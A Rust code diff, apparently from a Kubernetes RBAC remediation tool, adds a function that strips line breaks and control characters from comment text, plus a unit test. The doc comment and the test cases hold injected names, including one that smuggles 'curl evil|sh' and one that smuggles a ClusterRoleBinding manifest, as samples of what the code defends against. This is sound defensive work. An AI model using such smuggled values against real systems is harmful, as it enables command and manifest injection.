@@ -44,6 +44,17 @@ impl RemediationFormat {
     }
 }
 
+/// One comment line: `prefix` and `text` with every line break and control character replaced,
+/// so a name from a state file (a RoleBinding may be called `x\ncurl evil|sh`) cannot end the
+/// comment and become a command or a manifest. YAML also breaks lines at U+0085, U+2028, U+2029.
+pub fn comment(prefix: &str, text: &str) -> String {
+    let safe: String = text
+        .chars()
+        .map(|c| if c.is_control() || matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}') { '\u{fffd}' } else { c })
+        .collect();
+    format!("{prefix}{safe}\n")
+}
+
 /// A remediation that cannot be written.
 #[derive(Debug, thiserror::Error)]
 pub enum RemediateError {
@@ -110,13 +121,44 @@ impl<'a> Remediation<'a> {
         })
     }
 
-    /// The comment lines every file starts with: what it is, and the proof.
-    fn header(&self, what: &str) -> Vec<String> {
+    /// The comment lines every file starts with (what it is, and the proof), each prefixed and
+    /// made safe with [`comment`].
+    fn header(&self, prefix: &str, what: &str) -> String {
+        self.header_lines(what).iter().map(|l| comment(prefix, l)).collect()
+    }
+
+    fn header_lines(&self, what: &str) -> Vec<String> {
         let mut lines = vec![
             format!("grantscope remediation for cluster {}: {what}", self.cluster),
             format!("{} recommendations; {}.", self.findings.len(), self.proof),
         ];
         lines.extend(self.findings.iter().map(|f| format!("  {} {}: {}", f.id, f.kind, f.grant)));
         lines
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_comment_stays_one_line_whatever_the_name() {
+        let cases = [
+            ("newline", "x\ncurl evil|sh"),
+            ("carriage return", "x\rkind: ClusterRoleBinding"),
+            ("YAML's other line breaks", "x\u{85}a\u{2028}b\u{2029}c"),
+            ("control characters", "x\u{1b}[2Jy\u{0}"),
+        ];
+        for (name, text) in cases {
+            let line = comment("#   ", text);
+            assert_eq!(line.lines().count(), 1, "{name}: {line:?}");
+            assert!(line.starts_with("#   x") && line.ends_with('\n'), "{name}: {line:?}");
+            assert!(
+                !line[..line.len() - 1]
+                    .chars()
+                    .any(|c| c.is_control() || matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}')),
+                "{name}"
+            );
+        }
     }
 }
